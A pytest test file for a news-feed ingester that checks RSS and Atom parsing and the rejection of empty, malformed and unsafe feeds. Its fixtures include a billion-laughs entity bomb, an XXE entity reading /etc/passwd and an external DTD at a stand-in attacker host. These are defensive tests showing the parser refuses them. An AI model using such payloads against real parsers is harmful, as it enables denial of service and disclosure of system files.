"""RSS and Atom feeds: entries, metadata, HTML content, unsafe and broken feeds."""

from __future__ import annotations

import time
from datetime import date
from pathlib import Path

import pytest
from ingest_support import put, run

from sitreps.errors import Reason, Rejected
from sitreps.model import Article

FIRST = "Shelling damaged several houses in the border village overnight, the district governor said."
SECOND = "The two foreign ministers agreed to meet again next month to continue the peace talks."

RSS = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
     xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>Caspian Daily</title><link>https://caspian.example/</link><language>en-us</language>
<item><title>Village shelled</title><link>https://caspian.example/1</link><dc:creator>Jane Doe</dc:creator>
<pubDate>Tue, 13 Sep 2022 01:15:00 +0400</pubDate><description>Short summary.</description>
<content:encoded><![CDATA[<p>{FIRST}</p><p>Two people were <b>injured</b>.</p><script>x()</script>]]>
</content:encoded>
</item>
<item><title>Ministers to meet</title><link>https://caspian.example/2</link>
<description>{SECOND}</description></item>
</channel></rss>
"""


def test_rss_with_two_entries(tmp_path: Path) -> None:
    path = put(tmp_path, "caspian.rss", RSS)
    results = run(path)
    assert [r.source for r in results] == [f"{path}#1", f"{path}#2"]
    first, second = results
    assert isinstance(first, Article) and isinstance(second, Article)
    assert first.text == f"{FIRST}\n\nTwo people were injured."
    assert (first.title, first.url, first.author) == (
        "Village shelled",
        "https://caspian.example/1",
        "Jane Doe",
    )
    assert first.outlet == "Caspian Daily"
    # 01:15 at +04:00 is still the 12th in UTC; the date as the outlet wrote it is kept.
    assert first.published == date(2022, 9, 13)
    assert first.language == "en"
    assert second.text == SECOND
    assert second.published is None


def test_atom_feed(tmp_path: Path) -> None:
    atom = f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Wire Desk</title><id>urn:x</id>
<updated>2022-09-14T10:00:00Z</updated>
<entry><title>Talks</title><id>urn:1</id><link href="https://wire.example/a"/>
<author><name>John Roe</name></author><updated>2022-09-14T10:00:00Z</updated>
<content type="html">&lt;p&gt;{SECOND}&lt;/p&gt;</content></entry></feed>"""
    [article] = run(put(tmp_path, "wire.atom", atom))
    assert isinstance(article, Article)
    assert (article.outlet, article.author, article.url) == (
        "Wire Desk",
        "John Roe",
        "https://wire.example/a",
    )
    assert article.published == date(2022, 9, 14)
    assert article.text == SECOND


def test_feed_without_entries_is_rejected(tmp_path: Path) -> None:
    feed = '<?xml version="1.0"?><rss version="2.0"><channel><title>Empty</title></channel></rss>'
    [result] = run(put(tmp_path, "empty.xml", feed))
    assert isinstance(result, Rejected)
    assert result.reason is Reason.FEED_EMPTY


@pytest.mark.parametrize(
    "content",
    ["<html><body><p>Not a feed at all.</p></body></html>", "plain words, no markup", "<unclosed"],
)
def test_something_that_is_not_a_feed_is_rejected(content: str, tmp_path: Path) -> None:
    [result] = run(put(tmp_path, "notfeed.xml", content))
    assert isinstance(result, Rejected)
    assert result.reason in (Reason.FEED_INVALID, Reason.FEED_EMPTY)


def test_billion_laughs_is_refused_quickly(tmp_path: Path) -> None:
    entities = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    bomb = (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol0 "lol">{entities}]>'
        '<rss version="2.0"><channel><title>&lol9;</title>'
        "<item><title>x</title><description>&lol9;</description></item></channel></rss>"
    )
    started = time.monotonic()
    [result] = run(put(tmp_path, "bomb.rss", bomb))
    assert time.monotonic() - started < 1
    assert isinstance(result, Rejected)
    assert result.reason is Reason.UNSAFE_XML


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        '<!-- a comment --><!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">',
        '<!doctype rss [<!entity x "y">]>',
    ],
)
def test_external_references_are_refused(prolog: str, tmp_path: Path) -> None:
    feed = f'<?xml version="1.0"?>{prolog}<rss version="2.0"><channel><title>t</title></channel></rss>'
    [result] = run(put(tmp_path, "ext.xml", feed))
    assert isinstance(result, Rejected)
    assert result.reason is Reason.UNSAFE_XML


def test_entity_text_inside_content_is_not_a_declaration(tmp_path: Path) -> None:
    text = f"{SECOND} Markup such as &lt;!ENTITY&gt; was discussed."
    feed = RSS.replace(
        f"<description>{SECOND}</description>", f"<description><![CDATA[{text}]]></description>"
    )
    results = run(put(tmp_path, "ok.rss", feed))
    assert all(isinstance(r, Article) for r in results)


def test_entry_without_text_is_rejected_alone(tmp_path: Path) -> None:
    feed = RSS.replace(f"<description>{SECOND}</description>", "<description>  </description>")
    path = put(tmp_path, "partial.rss", feed)
    first, second = run(path)
    assert isinstance(first, Article)
    assert isinstance(second, Rejected)
    assert (second.reason, second.source) == (Reason.NO_TEXT_FIELD, f"{path}#2")
